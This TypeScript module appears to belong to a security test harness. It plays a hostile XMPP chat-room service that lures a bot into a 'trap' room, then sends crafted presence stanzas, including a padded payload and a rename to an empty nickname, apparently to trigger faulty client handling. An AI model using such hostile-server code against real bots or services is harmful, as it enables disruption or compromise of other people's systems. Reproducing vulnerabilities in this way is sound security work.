/** A room of a hostile service, which bots of the component enter. */
import { HOSTILE_DOMAIN, MUC } from "../case.js";
import type { Target } from "./attack.js";

export const TRAP = `trap@${HOSTILE_DOMAIN}`;

/** Plays the room TRAP until a bot is inside. @returns the bot's address */
export async function entered({ hostile }: Target): Promise<string> {
  for (;;) {
    const { name, attrs } = await hostile.next(
      ({ attrs: { to = "", type } }) => to.startsWith(TRAP) && type !== "error",
    );
    const { id = "", from = "", to = "" } = attrs;
    const info = "http://jabber.org/protocol/disco#info";
    if (name === "iq")
      hostile.stream.write(
        `<iq type="result" id="${id}" from="${to}" to="${from}"><query xmlns="${info}"><identity category="conference" type="text"/></query></iq>`,
      );
    if (name !== "presence") continue;
    hostile.stream.write(presence(to, from, 110));
    return from;
  }
}

export function presence(from: string, to: string, status: number | undefined, padding = ""): string {
  const code = status === undefined ? "" : `<status code="${status}"/>`;
  const item = `<x xmlns="${MUC}#user"><item affiliation="none" role="participant"/>${code}</x>`;
  return `<presence from="${from}" to="${to}">${item}<a xmlns="x">${padding}</a></presence>`;
}

/** The presence with which a room says that an occupant's nickname is now empty (XEP-0045 §7.6). */
export function renamed(to: string): string {
  const item = `<item affiliation="none" role="participant" nick=""/><status code="303"/><status code="110"/>`;
  return `<presence from="${TRAP}/${to.split("@")[0] ?? ""}" to="${to}" type="unavailable"><x xmlns="${MUC}#user">${item}</x></presence>`;
}
